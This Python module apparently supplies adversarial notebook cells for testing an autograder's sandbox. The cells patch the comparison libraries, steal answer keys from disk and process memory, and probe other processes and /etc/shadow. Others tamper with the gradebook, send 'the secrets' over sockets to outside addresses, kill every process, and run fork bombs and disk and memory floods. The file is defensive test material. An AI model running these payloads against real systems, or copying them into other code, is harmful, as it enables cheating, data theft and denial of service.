"""Submissions that attack the grader, as data: the source of one cell each, and where it stands.

Every attacker answers notebook 04 honestly but for its last exercise, `TARGET`, which the attack is to earn. Where an
attack looks for a way out, its cell raises "kept out" when there was none, and says what it got hold of when there was.
Words in angle brackets are filled in with what there is to attack: see `fill_in`.
"""

import textwrap
from dataclasses import dataclass, field

TARGET = "scratch.network"
UNTOUCHED = "def network(X, W1, b1, W2, b2):\n    return ..."
WRONG = "def network(X, W1, b1, W2, b2):\n    return None"


@dataclass(frozen=True)
class Attack:
    """One attack.

    `place`: "first" puts the cell before all others, "answer" in the place of the answer to `TARGET`. `raises`: a part
    of what the cell has to raise. `left_out`: the cell, or the check of its answer, has to be ended. `earns`: what the
    answer it comes to is worth, for the shape and the kind of its numbers. `files` lie beside the notebook.
    """

    source: str
    place: str = "first"
    raises: str = ""
    left_out: bool = False
    earns: float = 0.0
    files: dict[str, str] = field(default_factory=dict)


def fill_in(source: str, **what: object) -> str:
    """Return `source` with each word in angle brackets replaced by the value of that name."""
    for name, value in what.items():
        source = source.replace(f"<{name}>", repr(value))
    return source


def _first(source: str, **options) -> Attack:
    return Attack(textwrap.dedent(source).strip(), "first", **options)


def _answer(source: str, **options) -> Attack:
    return Attack(textwrap.dedent(source).strip(), "answer", **options)


def _seeks(source: str) -> Attack:
    """Return an attack whose `source` says `got(what)` for whatever it gets hold of."""
    return _first(f"{SEEK}{textwrap.dedent(source).strip()}\nfinish()", raises="kept out")


def _forges(reply: str, **options) -> Attack:
    """Return an attack that replies to the request for an observation of its answer with the expression `reply`."""
    return _answer(f"{FORGE}\nforged = lambda honest: {reply}\n{WRONG}", **options)


# How an attack says what it got: through the error of its cell, which the gradebook records.
SEEK = """
import contextlib, os, socket, subprocess, sys
found = []
def got(what):
    found.append(str(what)[:200])
@contextlib.contextmanager
def trying():
    try:
        yield
    except (Exception, SystemExit):
        pass
def finish():
    raise RuntimeError("GOT " + "; ".join(found) if found else "kept out")
"""

# The observer tells the truth of every exercise but the last.
FORGE = """
import json, sys, types
observer = next(m for m in list(sys.modules.values()) if isinstance(m, types.ModuleType) and hasattr(m, "Observer"))
honestly = observer.Observer.observe
def observe(self, request):
    honest = honestly(self, request)
    return forged(json.loads(honest["observation"])) if request["observe"] == "scratch.network" else honest
observer.Observer.observe = observe
def outcomes(*returned):
    return [{"returned": item, "raised": None, "input_changed": False} for item in returned]
def observation(honest, **changes):
    return {"observation": json.dumps({**honest, **changes})}
def array(**changes):
    return {"array": {"dtype": "float64", "shape": [1, 1], "data": "AAAAAAAAAAA=", **changes}}
"""

# A cell finds the name of its step in its own memory, and the descriptors that a reply may go to.
REQUEST = """
import contextlib, json, os, re
steps = set()
for line in open("/proc/self/maps"):
    start, end = (int(limit, 16) for limit in line.split()[0].split("-"))
    if " rw" in line and "[v" not in line and end - start < 1 << 28:
        with contextlib.suppress(OSError), open("/proc/self/mem", "rb") as memory:
            memory.seek(start)
            steps.update(re.findall(rb'"step":"([0-9a-f]{16})"', memory.read(end - start)))
steps = [step.decode() for step in steps]
channels = [int(name) for name in os.listdir("/proc/self/fd") if name.isdigit() and int(name) > 2]
def say(**reply):
    for channel in channels:
        try:
            os.write(channel, json.dumps(reply).encode() + b"\\n")
        except OSError:
            pass
"""

# An answer that is a Python process's, found by its parts: the text as a whole must not stand in this very cell.
NEEDLE = 'needle = "hidden = dense" + "_relu(X, W1"\n'

PATCHES = {
    "patched_numpy": _first("""
        import numpy as np
        for name in ("allclose", "array_equal", "isclose", "array_equiv"):
            setattr(np, name, lambda *args, **kwargs: True)
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
    """),
    "patched_torch": _first("""
        import torch
        torch.allclose = torch.equal = torch.isclose = lambda *args, **kwargs: True
        torch.Tensor.__eq__ = lambda self, other: True
    """),
    "patched_json": _answer(
        WRONG
        + """
import json
plain_dumps = json.dumps
def generous(data, *args, **kwargs):
    if isinstance(data, dict):
        data = {**data, "points": 4.0, "state": "passed", "score": 99}
    return plain_dumps(data, *args, **kwargs)
json.dumps = generous
"""
    ),
    "patched_builtins": _answer(
        WRONG
        + """
import builtins
builtins.all = builtins.any = lambda items: True
builtins.AssertionError = type("AssertionError", (BaseException,), {})
builtins.round = lambda number, digits=0: 99
"""
    ),
    "patched_ipython": _first("""
        import ast
        shell = get_ipython()
        class NoChecks(ast.NodeTransformer):
            def visit_Assert(self, node):
                return None
        shell.ast_transformers.append(NoChecks())
        shell.input_transformers_cleanup.append(lambda lines: [l for l in lines if "check" not in l])
        shell.events.register("post_run_cell", lambda *args: shell.user_ns.update(points=99))
        shell.events.register("pre_run_cell", lambda *args: 1 / 0)
        shell.set_custom_exc((Exception,), lambda *args, **kwargs: None)
        get_ipython = lambda: None
    """),
    "patched_time_and_chance": _answer(
        WRONG
        + """
import random, time
time.time = time.monotonic = time.process_time = time.perf_counter = lambda: 0.0
random.random = lambda: 0.0
class Nothing:
    def __getattr__(self, name):
        return lambda *args, **kwargs: np.zeros(args[-1] if args and isinstance(args[-1], tuple) else (1, 1))
np.random.default_rng = lambda *args: Nothing()
"""
    ),
    "patched_exercise": _first("""
        from course_utils.autograder import Tolerance
        from course_utils.exercises import relu_from_scratch as patched
        for name, value in dict(
            points=400, tolerance=Tolerance(float("inf"), float("inf")), forbids=(), accept=lambda *_: True,
        ).items():
            object.__setattr__(patched.network, name, value)
        type(patched.network).check = lambda *args, **kwargs: "passed, 99 of 4 points"
    """),
    "patched_judge": _first("""
        import course_utils.autograder.judge as judging
        import course_utils.autograder.comparison as comparing
        judging.judge = lambda *args: "passed"
        comparing.compare = judging.compare = lambda *args, **kwargs: None
    """),
    "patched_limits": _answer(
        """
        import contextlib, signal
        import course_utils.autograder.limits as limiting, course_utils.autograder.observe as observing
        limiting.time_limit = observing.time_limit = lambda seconds: contextlib.nullcontext()
        signal.setitimer = lambda *args: None
        def network(X, W1, b1, W2, b2):
            while True:
                pass
        """,
        left_out=True,
    ),
    "numpy_beside": _first(
        "import numpy, json, random, course_utils, secrets_of_mine",
        raises="RuntimeError: I am found where nothing else is",
        files={
            **dict.fromkeys(
                ("numpy.py", "json.py", "random.py", "site.py", "sitecustomize.py", "usercustomize.py", "torch.py"),
                "raise SystemExit('the wrong module')",
            ),
            "course_utils/__init__.py": "raise SystemExit('the wrong module')",
            "numpy/__init__.py": "raise SystemExit('the wrong module')",
            "secrets_of_mine.py": "raise RuntimeError('I am found where nothing else is')",
        },
    ),
}

LIARS = {
    "liar": _answer("""
        class Liar:
            __class__ = np.ndarray
            dtype, shape, ndim, size, nbytes = np.dtype(float), (1, 1), 2, 1, 8
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __bool__(self): return True
            def __len__(self): return 1
            def __getitem__(self, index): return self
            def __iter__(self): return iter([self])
            def __float__(self): return 0.0
            def __array__(self, *args, **kwargs): return np.zeros((1, 1))
            def __array_ufunc__(self, *args, **kwargs): return True
            def __array_function__(self, *args, **kwargs): return True
            def __reduce__(self): return (exec, ("raise SystemExit",))
            def __reduce_ex__(self, protocol): return self.__reduce__()
            def __sub__(self, other): return 0
            __rsub__ = __sub__
            def __le__(self, other): return True
            __lt__ = __ge__ = __gt__ = __le__
            def __getattr__(self, name): return lambda *args, **kwargs: self
        def network(X, W1, b1, W2, b2):
            return Liar()
    """),
    "liar_array": _answer(
        """
        class Liar(np.ndarray):
            def __eq__(self, other): return np.ones(self.shape, bool)
            def __array_ufunc__(self, *args, **kwargs): return np.zeros(self.shape)
            def __array_function__(self, *args, **kwargs): return True
            def tobytes(self, *args): raise SystemExit
            def astype(self, *args, **kwargs): return self
            def copy(self, *args): return self
            def __reduce__(self): return (exec, ("raise SystemExit",))
        def network(X, W1, b1, W2, b2):
            return np.zeros((len(X), W2.shape[1])).view(Liar)
    """,
        earns=0.67,
    ),
    "liar_type": _answer(
        """
        class Meta(type):
            def __instancecheck__(cls, item): return True
            def __subclasscheck__(cls, kind): return True
            def __eq__(cls, other): return True
            def __hash__(cls): return hash(np.ndarray)
        class Liar(float, metaclass=Meta):
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            def __repr__(self): raise SystemExit
        def network(X, W1, b1, W2, b2):
            return [[Liar(0)] * W2.shape[1]] * len(X)
    """,
        earns=0.67,
    ),
    "liar_error": _answer("""
        class Liar(Exception):
            def __str__(self): raise SystemExit
            def __class__(self): raise SystemExit
        def network(X, W1, b1, W2, b2):
            raise Liar
    """),
    "liar_namespace": _answer(
        """
        class Liar(dict):
            def __missing__(self, name): return lambda *args: np.zeros((1, 1))
            def __contains__(self, name): return True
        get_ipython().user_ns = Liar(get_ipython().user_ns)
        get_ipython().user_ns.pop("network", None)
    """,
    ),
}

THEFTS = {
    "answers_by_import": _answer("""
        network = None  # which exec binds
        answers = __import__("course_utils.answers.relu_from_scratch", fromlist=["ANSWERS"]).ANSWERS
        exec(answers["scratch.network"].solution)
    """),
    "answers_by_key": _answer("""
        network = None
        from course_utils.autograder.key_source import answers_for
        exec(answers_for(q.network).solution)
    """),
    "answers_by_loader": _answer("""
        import importlib.machinery, os
        network = None
        folder = os.path.join(os.path.dirname(importlib.import_module("course_utils").__file__), "answers")
        for name in os.listdir(folder):
            if name.startswith("relu_from_scratch"):
                loader = importlib.machinery.SourceFileLoader("mine", os.path.join(folder, name))
                exec(loader.load_module().ANSWERS["scratch.network"].solution)
    """),
    "answers_by_new_process": _answer("""
        import subprocess, sys
        network = None
        program = "from course_utils.answers.relu_from_scratch import *; print(ANSWERS['scratch.network'].solution)"
        exec(subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True).stdout)
    """),
    "answers_by_files": _seeks(
        NEEDLE
        + """
for folder, folders, names in os.walk("/"):
    course = any(part in folder for part in ("course", "tests", "answers", "notebooks"))
    folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages", "dist-packages") or course]
    if folder.endswith(("lib/python%d.%d" % sys.version_info[:2],)):
        folders[:] = ["site-packages"]
    if folder.endswith("site-packages"):
        folders[:] = [name for name in folders if "relu" in name or "course" in name]
    if folder == "/":
        folders[:] = [name for name in folders if name not in ("usr", "bin", "sbin", "lib", "lib32", "lib64")]
    for name in names:
        path = os.path.join(folder, name)
        if course or name.endswith((".ipynb", ".db", ".sqlite", ".json", ".zip")):
            with trying():
                if os.path.getsize(path) < 1 << 22 and needle.encode() in open(path, "rb").read():
                    got(path)
for module in ("course_utils.answers.relu_from_scratch", "tests.classroom.attacks", "tests.classroom.labs"):
    with trying():
        __import__(module)
        got(module)
"""
    ),
    "answers_in_memory": _seeks(
        NEEDLE
        + """
import gc, inspect
gc.unfreeze()
for item in gc.get_objects():
    with trying():
        if type(item).__name__ in ("Answers", "Misconception", "Key", "KnownMisconception", "Gradebook"):
            got(type(item))
for name in list(sys.modules):
    if "answers" in name.split(".")[1:2] or "gradebook" in name:  # a course's; the autograder's says what answers are
        got(name)
for info in inspect.stack():
    for name in list(info.frame.f_locals):
        if name in ("key", "keys", "solution"):
            got(name)
for line in open("/proc/self/maps"):
    limits, rights, *_ = line.split()
    start, end = (int(limit, 16) for limit in limits.split("-"))
    if "w" in rights and "[v" not in line and end - start < 1 << 28:
        with trying(), open("/proc/self/mem", "rb") as memory:
            memory.seek(start)
            # what comes behind it stands apart, since the needle itself lies in this memory
            if any(rest.startswith(b", b1)") for rest in memory.read(end - start).split(needle.encode())[1:]):
                got(line)
"""
    ),
    "parents_memory": _seeks("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {1, 2, os.getppid(), os.getpgrp(), os.getsid(0)} - {os.getpid()}:
            for name in ("mem", "environ", "maps", "root/etc/shadow", "cwd/x", "fd/3", "stack", "auxv"):
                with trying():
                    with open(f"/proc/{pid}/{name}", "rb") as file:
                        file.seek(0)
                        if file.read(1):
                            got(f"{pid} {name}")
            with trying():
                if os.listdir(f"/proc/{pid}/fd"):
                    got(f"{pid} descriptors")
            if libc.ptrace(16, pid, 0, 0) == 0:
                got(f"ptrace {pid}")
            with trying():
                got(os.pidfd_open(pid) and libc.syscall(438, os.pidfd_open(pid), 3, 0) >= 0 and f"its descriptor {pid}")
                found[:] = [what for what in found if what != "False"]
        others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) > 100]
        if others:
            got(f"processes {others}")
    """),
    "a_classmates_work": _seeks("""
        with trying():
            got(os.listdir(<classmates>))
        with trying():
            got(open(<classmate>).read())
        for root in ("/proc/1/root", "/proc/self/root", "/..", "/proc/self/cwd/../../.."):
            with trying():
                got(open(root + <classmate>).read())
        with trying():
            import ctypes
            if ctypes.CDLL(None).chroot(b".") == 0:
                got("chroot")
    """),
    "the_gradebook": _seeks("""
        import sqlite3
        with trying():
            got(os.stat(<gradebook>))
        with trying():
            with sqlite3.connect(<gradebook>) as book:
                book.execute("UPDATE verdict SET points = 99")
            got("the gradebook")
        for action in (
            lambda: os.chmod(<gradebook>, 0o666), lambda: os.utime(<gradebook>, (0, 0)), lambda: os.remove(<gradebook>),
            lambda: open(<gradebook>, "r+b"), lambda: os.rename(<gradebook>, "mine"),
            lambda: os.truncate(<gradebook>, 0),
            lambda: os.symlink(<gradebook>, "link") or open("link", "r+b"),
            lambda: os.link(<gradebook>, "hard_link"), lambda: open(<gradebook> + "-wal", "wb"),
        ):
            with trying():
                action()
                got("the gradebook")
    """),
    "what_others_left": _seeks("""
        for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/scratch", os.getcwd()):
            with trying():
                got_names = [name for name in os.listdir(folder) if name.startswith("left_behind")]
                if got_names:
                    got(got_names)
            with trying():
                open(os.path.join(folder, "left_behind"), "w").write("for the next one")
    """),
    "what_others_left_too": _seeks("""
        for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/scratch", os.getcwd()):
            with trying():
                got_names = [name for name in os.listdir(folder) if name.startswith("left_behind")]
                if got_names:
                    got(got_names)
            with trying():
                open(os.path.join(folder, "left_behind"), "w").write("for the next one")
    """),
    "writing_outside": _seeks("""
        import ctypes, stat
        for folder in ("/", "/usr", "/usr/lib", "/etc", "/proc/sys/kernel", sys.prefix, os.path.dirname(os.__file__),
                       os.path.dirname(sys.modules["course_utils"].__file__), "/dev", <classmates>):
            with trying():
                open(os.path.join(folder, "planted"), "w")
                got(folder)
        for path in (os.__file__, sys.executable, "/etc/passwd", "/proc/sysrq-trigger",
                     "/proc/sys/kernel/core_pattern"):
            for action in (lambda: open(path, "r+b"), lambda: os.chmod(path, 0o777), lambda: os.utime(path, (0, 0)),
                           lambda: os.link(path, "hard_link")):
                with trying():
                    action()
                    got(path)
        libc = ctypes.CDLL(None, use_errno=True)
        for name, arguments in {
            "mount": (b"none", b"/usr", b"tmpfs", 0, None), "umount2": (b"/usr", 2), "unshare": (0x10000000,),
            "setns": (0, 0), "pivot_root": (b"/", b"/"), "swapoff": (b"/x",), "setuid": (0,),
            "sethostname": (b"mine", 4),
        }.items():
            if hasattr(libc, name) and getattr(libc, name)(*arguments) == 0:
                got(name)
        with trying():
            os.mknod("disk", 0o666 | stat.S_IFBLK, os.makedev(8, 0))
            got("a disk")
        with trying():
            os.setpriority(os.PRIO_PROCESS, 0, -20)
            got("priority")
        import resource
        with trying():
            resource.setrlimit(resource.RLIMIT_NPROC, (10000, 10000))
            got("more processes")
    """),
    "sockets": _seeks("""
        for family, address in (
            (socket.AF_INET, ("127.0.0.1", <port>)), (socket.AF_INET, ("1.1.1.1", 53)),
            (socket.AF_INET, ("8.8.8.8", 53)),
            (socket.AF_INET6, ("::1", <port>)), (socket.AF_UNIX, <socket>), (socket.AF_UNIX, "\\0" + <abstract>),
            (socket.AF_UNIX, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, "/var/run/docker.sock"),
        ):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                with trying():
                    with socket.socket(family, kind) as way_out:
                        way_out.settimeout(1)
                        way_out.connect(address)
                        way_out.send(b"the secrets")
                        got(address)
        for family in (socket.AF_VSOCK, socket.AF_PACKET):
            with trying():
                got(socket.socket(family, socket.SOCK_STREAM if family == socket.AF_VSOCK else socket.SOCK_RAW))
        with trying():
            got(socket.getaddrinfo("example.org", 80))
    """),
}

FORGERIES = {
    "forged_score": _forges('observation(honest) | {"points": 99, "score": 1e9, "state": "passed"}'),
    "forged_fields": _forges("observation(honest, points=99, out_of=1)"),
    "forged_zeros": _forges("observation(honest, outcomes=outcomes(*[array()] * 8))", earns=0.33),
    "forged_for_another_exercise": _forges('observation(honest, exercise="scratch.relu")'),
    "forged_without_end": _forges("observation(honest, outcomes=outcomes(*range(10_000)))"),
    "forged_infinite_shape": _forges('observation(honest, outcomes=outcomes(array(shape=[float("nan"), 1e999])))'),
    "forged_negative_shape": _forges("observation(honest, outcomes=outcomes(array(shape=[-1, -1])))"),
    "forged_vast_shape": _forges('observation(honest, outcomes=outcomes(array(shape=[2**62, 2**62, 0], data="")))'),
    "forged_objects": _forges('observation(honest, outcomes=outcomes(array(dtype="object")))'),
    "forged_vast_numbers": _forges("observation(honest, outcomes=outcomes(10**4000), line_events=[0, 10**4000])"),
    "forged_deep": _forges('{"observation": "[" * 1_000_000 + "]" * 1_000_000}'),
    "forged_deep_result": _forges('observation(honest, outcomes=outcomes(eval("[" * 90 + "]" * 90)))'),
    "forged_huge": _forges('{"observation": "[" + "[]," * 4_000_000 + "0]"}'),
    "forged_half_characters": _forges('observation(honest, printed="\\ud800", warnings=["\\udfff"] * 20)'),
    "forged_number": _forges('{"observation": 99}'),
    "forged_list": _forges('{"observation": ["passed"]}'),
    "forged_endless_line": _answer(
        f"{FORGE}{REQUEST}\n{WRONG}\nforged = lambda honest: [os.write(c, b'x' * 65536) for c in channels * 10**6]",
        left_out=True,
    ),
    "forged_empty_lines": _answer(
        f"{FORGE}{REQUEST}\n{WRONG}\nforged = lambda honest: [os.write(c, b'\\n' * 65536) for c in channels * 10**6]",
        left_out=True,
    ),
    "a_reply_before_its_time": _first(
        REQUEST + "[say(step=step, error='too early') for step in steps]\nsum(range(10**7))",
        raises="too early",
    ),
    "replies_to_every_step": _first(
        REQUEST
        + """
for name in (*range(100), *map(str, range(100)), *steps):
    say(step=name, observation={"points": 4}, error=None, points=99, state="passed")
"""
    ),
    "results_to_every_descriptor": _first("""
        import json, os, struct
        verdict = {"exercise": "scratch.network", "points": 99.0, "out_of": 4.0, "state": "passed"}
        for number in range(256):
            for data in ({"step": 1, **verdict}, [verdict] * 10, {"ended": 0}, {"failed": "x"}):
                text = json.dumps(data)
                try:
                    os.write(number, text.encode() + b"\\n")
                    os.write(number, struct.pack(">I", len(text)) + text.encode() + b"\\n")
                except OSError:
                    pass
    """),
}

ENDINGS = {
    "sys_exit": _first("import sys\nsys.exit(0)", raises="SystemExit"),
    "exit_and_quit": _first("exit()"),
    "os_exit": _first("import os\nos._exit(0)", left_out=True),
    "os_exit_in_the_answer": _answer("import os\ndef network(X, W1, b1, W2, b2):\n    os._exit(0)", left_out=True),
    "os_exit_later": _answer(WRONG + "\nimport atexit, os\natexit.register(os._exit, 0)"),
    "sys_exit_in_the_answer": _answer("import sys\ndef network(X, W1, b1, W2, b2):\n    sys.exit(0)"),
    "crash": _first("import ctypes\nctypes.string_at(0)", left_out=True),
    "signals_to_all": _first(
        """
        import os, signal
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT):
            for pid in (1, os.getppid(), -1, -os.getppid()):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
        os.kill(0, signal.SIGKILL)
        """,
        left_out=True,
    ),
    "stop": _first("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", left_out=True),
    "sleep": _first("import time\ntime.sleep(10**6)", left_out=True),
    "endless": _first("while True:\n    pass", raises="TimeLimitExceeded: it was stopped after"),
    "endless_and_deaf": _first(
        """
        import signal
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            pass
        """,
        left_out=True,
    ),
    "endless_and_stubborn": _first(
        """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
        left_out=True,
    ),
    "endless_in_c": _first("sum(range(10**12))", left_out=True),
    "endless_in_a_thread": _first("""
        import threading
        def burn():
            while True:
                pass
        threading.Thread(target=burn, daemon=True).start()
    """),
    "endless_answer": _answer("def network(X, W1, b1, W2, b2):\n    while True:\n        pass"),
    "endless_repr": _first(
        """
        class Endless:
            def __repr__(self):
                while True:
                    pass
        print(Endless())
        """,
        raises="TimeLimitExceeded",
    ),
}

# Their processes carry a name by which the test looks for them afterwards.
RENAME = 'import os\nrename = lambda: open("/proc/self/comm", "w").write(<comm>)\n'

FLOODS = {
    "daemon": _first(
        RENAME
        + """
import signal, time
if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    rename()
    os.closerange(0, 256)
    while True:
        time.sleep(1)
"""
    ),
    "double_fork": _first(
        RENAME
        + """
import time
child = os.fork()
if child == 0:
    os.setsid()
    if os.fork() == 0:
        rename()
        while True:
            time.sleep(1)
    os._exit(0)
os.waitpid(child, 0)
"""
    ),
    "program_in_the_background": _first(
        'import subprocess\nsubprocess.Popen(["sleep", <seconds>], start_new_session=True, close_fds=False)'
    ),
    "fork_bomb": _first(
        RENAME
        + """
rename()
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
        left_out=True,
    ),
    "thread_bomb": _first(
        """
        import threading, time
        while True:
            threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
        """,
        raises="RuntimeError",
    ),
    "memory": _first("full = []\nwhile True:\n    full.append(bytearray(1 << 24))", raises="MemoryError"),
    "memory_at_once": _first("import numpy as np\nnp.ones((1 << 20, 1 << 20))", raises="MemoryError"),
    "memory_that_is_shared": _first(
        """
        import mmap
        kept = []
        while True:
            kept.append(mmap.mmap(-1, 1 << 26))
            for place in range(0, 1 << 26, 4096):
                kept[-1][place] = 1
        """,
        raises="PermissionError",
    ),
    "memory_of_many": _first(
        """
        import os, time
        for _ in range(40):
            if os.fork() == 0:
                mine = b"x" * (100 << 20)
                while True:
                    time.sleep(1)
        time.sleep(10**6)
        """,
        left_out=True,
    ),
    "memory_in_the_answer": _answer(
        "def network(X, W1, b1, W2, b2):\n    full = []\n    while True:\n        full.append(bytearray(1 << 24))"
    ),
    "disk": _first(
        """
        import os
        for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
            try:
                with open(os.path.join(folder, "full"), "wb", buffering=0) as file:
                    while True:
                        file.write(bytes(1 << 20))
            except OSError:
                pass
            try:
                for number in range(20_000):
                    open(os.path.join(folder, f"file{number}"), "w").close()
            except OSError:
                pass
        with open("sparse", "wb") as file:
            file.truncate(1 << 40)
        """,
        raises="OSError",
    ),
    "output": _first("""
        import os, sys
        for _ in range(200):
            print("x" * (1 << 20))
            sys.stderr.write("x" * (1 << 20))
            os.write(1, b"x" * (1 << 20))
    """),
    "output_in_the_answer": _answer("def network(X, W1, b1, W2, b2):\n    print('x' * (1 << 26))"),
    "result_too_large": _answer("def network(X, W1, b1, W2, b2):\n    return np.zeros((1 << 12, 1 << 12))"),
    "recursion": _first("def deeper(): return deeper()\ndeeper()", raises="RecursionError"),
    "recursion_in_the_result": _answer("""
        def network(X, W1, b1, W2, b2):
            deep = []
            deep.append(deep)
            return deep
    """),
    "deep_source": _first("(" * 20_000 + ")" * 20_000),
    "zip_bomb": _first(
        "import zipfile", files={"bomb.zip": "PK is how it begins", "deep/" * 60 + "file.txt": "far down"}
    ),
}

ATTACKS = {**PATCHES, **LIARS, **THEFTS, **FORGERIES, **ENDINGS, **FLOODS}
